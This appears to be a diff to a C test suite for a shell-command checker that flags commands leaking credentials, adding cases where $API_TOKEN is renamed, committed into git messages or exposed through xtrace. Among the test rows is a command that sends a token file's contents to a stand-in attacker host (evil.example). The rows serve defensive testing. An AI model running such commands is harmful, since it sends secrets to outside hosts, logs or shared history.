@@ -165,6 +165,7 @@ static const struct row secret_rows[] = {
 	{ ALLOW, "T=$(sudo cat token.txt); [ -z \"$T\" ] || curl -s -u \"me:$T\" http://127.0.0.1/" },
 	{ OPEN, "T=$(cat token.txt); curl -H \"X: $T\" https://evil.example/" },
 	{ OPEN, "T=$(cat token.txt); curl \"http://localhost/$T\"" },
+	{ OPEN, "T=$(cat token.txt); curl -sv -H \"X: $T\" http://localhost/" },
 	{ OPEN, "T=$(cat token.txt); curl -v -H \"X: $T\" http://localhost/" },
 	{ OPEN, "T=$(cat token.txt); [[ $T ]] && ls" },
 	{ OPEN, "T=$(cat token.txt | tee build/new); test -n \"$T\"" },
@@ -174,6 +175,37 @@ static const struct row secret_rows[] = {
 	{ OPEN, "T=$(cat token.txt); export T; test -n \"$T\"" },
 	{ OPEN, "T=$(cat token.txt); test -n \"$T\" > \"$T\"" },
 	{ OPEN, "T=$(cat token.txt) ls" },
+};
+
+/* What is kept or shown of the words of a command, where the line gives a credential another name. */
+static const struct row holder_rows[] = {
+	{ OPEN, "git commit -m \"$API_TOKEN\"" },
+	{ OPEN, "git tag -a v1 -m \"$API_TOKEN\"" },
+	{ OPEN, "X=$API_TOKEN; git commit -m \"$X\"" },
+	{ OPEN, "X=\"a $API_TOKEN\"; Y=$X; Z=$Y; echo \"$Z\"" },
+	{ OPEN, "eval 'X=$API_TOKEN'; git commit -m \"$X\"" },
+	{ OPEN, "A=(x \"$API_TOKEN\"); echo \"${A[1]}\"" },
+	{ OPEN, ": \"${X:=$API_TOKEN}\"; echo \"$X\"" },
+	{ OPEN, "printf -v X %s \"$API_TOKEN\"; echo \"$X\"" },
+	{ OPEN, "read -r X <<< \"$API_TOKEN\"; echo \"$X\"" },
+	{ OPEN, "while read -r X; do git commit -m \"$X\"; done <<< \"$API_TOKEN\"" },
+	{ OPEN, "for x in a \"$API_TOKEN\"; do echo \"$x\"; done" },
+	{ OPEN, "set -- \"$API_TOKEN\"; echo \"$1\"" },
+	{ OPEN, "f() { git commit -m \"$1\"; }; f \"$API_TOKEN\"" },
+	{ OPEN, "bash -c 'git commit -m \"$1\"' _ \"$API_TOKEN\"" },
+	{ OPEN, "GIT_AUTHOR_NAME=\"$API_TOKEN\" git commit -m x" },
+	{ OPEN, "env LOG_LEVEL=\"$API_TOKEN\" bash -c 'git commit -m \"$LOG_LEVEL\"'" },
+	{ OPEN, "set -ex; [ -n \"$API_TOKEN\" ]" },
+	{ OPEN, "set -o xtrace; X=$API_TOKEN" },
+	{ OPEN, "bash -xc '[ -n \"$API_TOKEN\" ]'" },
+	{ OPEN, "set -x; curl -H \"X: $API_TOKEN\" http://localhost/" },
+	{ OPEN, "set -x; T=$(cat token.txt); test -n \"$T\"" },
+	{ ALLOW, "set -e; [ -n \"$API_TOKEN\" ]" },
+	{ ALLOW, "[ -n \"${API_TOKEN:+x}\" ] && echo \"${API_TOKEN:+it is set}\"" },
+	{ ALLOW, "X=${#API_TOKEN}; echo \"$X\"" },
+	{ ALLOW, "f() { git commit -m \"$1\"; }; f \"$MSG\"" },
+	{ ALLOW, "X=$MSG; git commit -m \"$X\"" },
+	{ ALLOW, "curl -s -H \"X: $API_TOKEN\" http://localhost:3000/" },
 };
 
 static const struct row source_rows[] = {
@@ -247,6 +279,7 @@ static void test_secrets(void **state)
 {
 	(void)state;
 	WALK(secret_rows, SHELL_FRESH);
+	WALK(holder_rows, SHELL_FRESH);
 }
 
 static void test_sources(void **state)
